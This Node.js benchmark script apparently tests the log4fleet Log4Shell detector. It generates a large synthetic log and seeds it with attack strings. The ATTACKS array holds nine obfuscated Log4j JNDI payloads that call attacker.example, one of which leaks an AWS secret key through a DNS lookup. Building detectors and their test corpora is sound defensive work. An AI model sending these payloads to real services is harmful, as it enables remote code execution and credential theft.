#!/usr/bin/env node
// npm run bench:hunt — log hunting benchmark of the log4fleet agent.
//
// What it does
//  1. Generates ONCE into a cache directory, then reuses it: app.log, a ~1 GB log of mixed lines
//     (Apache access lines with query strings and %-escapes, Log4j application lines, stack
//     frames full of `$`, JSON lines with \" and \u00e9 escapes), ~1.5% of lines holding a
//     benign `${...}` template, and one exploit string every ~20,000 lines taken from a set of
//     obfuscation families (URL layers, \u escapes, HTML escapes, nested lookups, dotless ı ...).
//     app.log.gz is the same text gzip-compressed (level 6). params.json is the marker: when it
//     differs the cache is regenerated. Deterministic (seeded PRNG).
//  2. Measures (warm page cache) and prints: `grep -F jndi` on the plain file (the floor the issue
//     names), `grep -F '${'`, `zcat | grep -F jndi` for the gzip file (grep's output to a file:
//     to /dev/null GNU grep stops at the first match), then the agent
//     (`node dist/apps/agent/main.js hunt --json FILE`) on the plain and the gzip file: wall s,
//     MB/s (10^6 bytes of text), CPU s and peak RSS.
//  3. Checks that the agent found every planted attack (count of `jndi` hits equals the number
//     planted, no other hit), and prints the ratio to the grep floor against the issue's target
//     (within 3x on plain text) and the peak RSS against 300 MB. Exit 0 whatever the verdicts;
//     non-zero only when the benchmark itself could not run.
//
// Env knobs
//  BENCH_HUNT_DIR=/var/tmp/log4fleet-bench-hunt   cache directory
//  BENCH_HUNT_MB=1024                             size of the log in MiB (e.g. 64 for a quick run)
//  BENCH_RUNS=1                                   measured runs per row (median shown)
//  BENCH_SKIP_GZIP=1                              skip the gzip rows
//  BENCH_BUILD=1                                  rebuild the agent first (always built when missing)
//  BENCH_AGENT=dist/apps/agent/main.js            the agent entry
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { ensureGnuTime, measureMedian } from './bench/measure.mjs';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const env = process.env;
const SIZE_MB = Number(env.BENCH_HUNT_MB ?? 1024);
const DIR = path.resolve(env.BENCH_HUNT_DIR ?? '/var/tmp/log4fleet-bench-hunt', `${SIZE_MB}m`);
const AGENT = path.resolve(ROOT, env.BENCH_AGENT ?? 'dist/apps/agent/main.js');
const RUNS = Math.max(1, Number(env.BENCH_RUNS ?? 1));
const RSS_LIMIT_MB = 300;
const GENERATOR_VERSION = 4;

const log = (s) => process.stdout.write(`${s}\n`);
const fmt = (x, d = 2) => (x == null || !Number.isFinite(x) ? 'n/a' : x.toFixed(d));

// mulberry32: small, deterministic.
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const ATTACKS = [
  '${jndi:ldap://cb%N%.attacker.example:1389/a}',
  '%24%7Bjndi%3Aldap%3A%2F%2Fcb%N%.attacker.example%2Fa%7D',
  '%2524%257Bjndi%253Armi%253A%252F%252Fcb%N%.attacker.example%252Fx%257D',
  '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://cb%N%.attacker.example/a}',
  '${${lower:J}ndi:${upper:d}ns://cb%N%.attacker.example/${env:AWS_SECRET_ACCESS_KEY}}',
  '\\u0024\\u007bjndi:ldap://cb%N%.attacker.example/a}',
  '&#36;&#123;jnd\u0131:ldap://cb%N%.attacker.example/a&#125;',
  "${${date:'j'}${env:NOPE:-n}di:ldap://127.0.0.1#cb%N%.attacker.example/a}",
  '${${base64:am5kaQ==}:iiop://cb%N%.attacker.example/a}',
];
const TEMPLATES = [
  '${user.home}/logs/app.log',
  'jdbc:postgresql://${DB_HOST}:${DB_PORT}/${DB_NAME}',
  '${sys:catalina.base}/conf/${ctx:tenant}.xml',
  'JAVA_OPTS=${JAVA_OPTS} -Dnode=${NODE_ID}',
];
const WORDS =
  'user order payment session cache request response token account item cart search report index'.split(
    ' ',
  );
const CLASSES = [
  'com.example.shop.OrderService',
  'org.springframework.web.servlet.DispatcherServlet',
  'com.example.shop.web.CartController$1',
  'org.apache.catalina.core.StandardWrapperValve',
];

function makeLine(r, i, attack) {
  const w = () => WORDS[Math.floor(r() * WORDS.length)];
  const ip = `10.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`;
  const ts = `2021-12-${String(10 + (i % 5)).padStart(2, '0')} 12:${String(i % 60).padStart(2, '0')}:${String((i >> 6) % 60).padStart(2, '0')},${String(i % 1000).padStart(3, '0')}`;
  const payload = attack ?? (r() < 0.015 ? TEMPLATES[Math.floor(r() * TEMPLATES.length)] : null);
  const x = r();
  if (x < 0.55) {
    const q = payload
      ? encodeURI(payload).replace(/%25/g, '%')
      : `${w()}=${w()}%20${w()}&page=${i % 50}`;
    return `${ip} - - [10/Dec/2021:12:00:${String(i % 60).padStart(2, '0')} +0000] "GET /${w()}/${w()}?${q} HTTP/1.1" 200 ${Math.floor(r() * 50000)} "https://shop.example/${w()}" "Mozilla/5.0 (X11; Linux x86_64) ${payload && attack ? payload : 'Firefox/95.0'}"`;
  }
  // A stack frame carries no message: a planted attack goes into an application line instead.
  if (x < 0.8 || (attack && x < 0.92))
    return `${ts} INFO  [http-nio-8080-exec-${i % 200}] ${CLASSES[i % CLASSES.length]} - ${w()} ${w()} id=${i} ${payload ?? `took ${Math.floor(r() * 900)} ms`}`;
  if (x < 0.92)
    return `\tat ${CLASSES[i % CLASSES.length]}.${w()}$${i % 7}(${w()}.java:${i % 900}) ~[app.jar:1.0]`;
  return `{"@timestamp":"2021-12-10T12:00:00.${String(i % 1000).padStart(3, '0')}Z","level":"INFO","msg":"caf\\u00e9 \\"${w()}\\" ${payload ? payload.replace(/"/g, '\\"') : w()}","thread":"main"}`;
}

function generate() {
  const marker = JSON.stringify({ GENERATOR_VERSION, SIZE_MB });
  const markerFile = path.join(DIR, 'params.json');
  if (fs.existsSync(markerFile) && fs.readFileSync(markerFile, 'utf8') === marker) {
    return JSON.parse(fs.readFileSync(path.join(DIR, 'planted.json'), 'utf8'));
  }
  fs.rmSync(DIR, { recursive: true, force: true });
  fs.mkdirSync(DIR, { recursive: true });
  log(`generating ${SIZE_MB} MiB log in ${DIR} ...`);
  const r = prng(20211210);
  const target = SIZE_MB * 1024 * 1024;
  const fd = fs.openSync(path.join(DIR, 'app.log'), 'w');
  let written = 0;
  let i = 0;
  let planted = 0;
  while (written < target) {
    const lines = [];
    for (let k = 0; k < 20000; k++, i++) {
      const attack =
        i % 20011 === 20010
          ? ATTACKS[planted++ % ATTACKS.length].replace('%N%', String(planted))
          : undefined;
      lines.push(makeLine(r, i, attack));
    }
    const block = Buffer.from(`${lines.join('\n')}\n`);
    fs.writeSync(fd, block);
    written += block.length;
  }
  fs.closeSync(fd);
  log(
    `  ${(written / 1e6).toFixed(0)} MB, ${i} lines, ${planted} attacks planted; compressing ...`,
  );
  if (env.BENCH_SKIP_GZIP !== '1') {
    const gz = spawnSync('sh', [
      '-c',
      `gzip -6 -c "${path.join(DIR, 'app.log')}" > "${path.join(DIR, 'app.log.gz')}"`,
    ]);
    if (gz.status !== 0) throw new Error(`gzip failed: ${gz.stderr}`);
  }
  const info = { planted, lines: i, bytes: written };
  fs.writeFileSync(path.join(DIR, 'planted.json'), JSON.stringify(info));
  fs.writeFileSync(markerFile, marker);
  return info;
}

function warm(file) {
  spawnSync('sh', ['-c', `cat "${file}" > /dev/null`]);
}

async function row(name, cmd, args, bytes, stdoutFile) {
  const m = await measureMedian(RUNS, cmd, args, { stdoutFile, timeoutMs: 1_800_000 });
  const mbps = bytes / 1e6 / m.wall;
  log(
    `${name.padEnd(34)} ${fmt(m.wall).padStart(8)} ${fmt(mbps, 0).padStart(8)} ${fmt(m.cpu).padStart(8)} ${fmt(m.maxRssMB, 0).padStart(8)}`,
  );
  return { ...m, mbps };
}

function huntHits(file) {
  const lines = fs
    .readFileSync(file, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
  return {
    hits: lines.filter((l) => l.type === 'hit'),
    summary: lines.find((l) => l.type === 'summary'),
  };
}

async function main() {
  if (!(SIZE_MB >= 1 && SIZE_MB <= 16384))
    throw new Error(`BENCH_HUNT_MB must be 1..16384, got ${env.BENCH_HUNT_MB}`);
  log(
    `log4fleet hunt benchmark — ${new Date().toISOString()}, ${os.cpus().length} cores, load ${os
      .loadavg()
      .map((x) => x.toFixed(2))
      .join(' ')}`,
  );
  if (env.BENCH_BUILD === '1' || !fs.existsSync(AGENT)) {
    log('building the agent ...');
    const b = spawnSync('node', ['apps/agent/build.mjs'], { cwd: ROOT, stdio: 'inherit' });
    if (b.status !== 0) throw new Error('agent build failed');
  }
  const info = generate();
  const plain = path.join(DIR, 'app.log');
  const gz = path.join(DIR, 'app.log.gz');
  log(
    `log: ${(info.bytes / 1e6).toFixed(0)} MB, ${info.lines} lines, ${info.planted} attacks planted (${plain})`,
  );
  log(`measuring with ${ensureGnuTime(log)}, ${RUNS} run(s) per row, warm page cache`);
  warm(plain);
  const out = path.join(os.tmpdir(), `bench-hunt-${process.pid}.jsonl`);
  log(
    `\n${'row'.padEnd(34)} ${'wall s'.padStart(8)} ${'MB/s'.padStart(8)} ${'CPU s'.padStart(8)} ${'RSS MB'.padStart(8)}`,
  );
  // GNU grep stops at the first match when its output is /dev/null: it writes to a file here.
  const floor = await row('grep -F jndi (floor)', 'grep', ['-F', 'jndi', plain], info.bytes, out);
  await row("grep -F '${'", 'grep', ['-F', '${', plain], info.bytes, out);
  const agentPlain = await row(
    'agent hunt --json (plain)',
    process.execPath,
    [AGENT, 'hunt', '--json', plain],
    info.bytes,
    out,
  );
  const plainResult = huntHits(out);
  let agentGz;
  let gzResult;
  if (env.BENCH_SKIP_GZIP !== '1' && fs.existsSync(gz)) {
    warm(gz);
    await row(
      'zcat | grep -F jndi (gzip floor)',
      'sh',
      ['-c', `zcat "${gz}" | grep -F jndi`],
      info.bytes,
      out,
    );
    agentGz = await row(
      'agent hunt --json (gzip)',
      process.execPath,
      [AGENT, 'hunt', '--json', gz],
      info.bytes,
      out,
    );
    gzResult = huntHits(out);
  }
  fs.rmSync(out, { force: true });

  log('\nchecks');
  const check = (name, ok, detail) =>
    log(`  ${ok ? 'PASS' : 'FAIL'}  ${name}${detail ? `: ${detail}` : ''}`);
  for (const [name, res] of [
    ['plain', plainResult],
    ['gzip', gzResult],
  ]) {
    if (!res) continue;
    const jndi = res.hits.filter((h) => h.kind === 'jndi').length;
    const other = res.hits.length - jndi;
    check(
      `${name}: every planted attack found, nothing else`,
      jndi === info.planted && other === 0,
      `${jndi}/${info.planted} jndi hits, ${other} other hits, ${res.summary?.lines} lines read`,
    );
  }
  const ratio = agentPlain.wall / floor.wall;
  check(
    'plain text within 3x of grep -F jndi',
    ratio <= 3,
    `${fmt(ratio)}x (${fmt(agentPlain.mbps, 0)} vs ${fmt(floor.mbps, 0)} MB/s)`,
  );
  check(
    `peak RSS < ${RSS_LIMIT_MB} MB (plain)`,
    (agentPlain.maxRssMB ?? Infinity) < RSS_LIMIT_MB,
    `${fmt(agentPlain.maxRssMB, 0)} MB`,
  );
  if (agentGz)
    check(
      `peak RSS < ${RSS_LIMIT_MB} MB (gzip)`,
      (agentGz.maxRssMB ?? Infinity) < RSS_LIMIT_MB,
      `${fmt(agentGz.maxRssMB, 0)} MB`,
    );
}

main().catch((err) => {
  process.stderr.write(`bench-hunt: ${err instanceof Error ? err.stack : String(err)}\n`);
  process.exit(1);
});
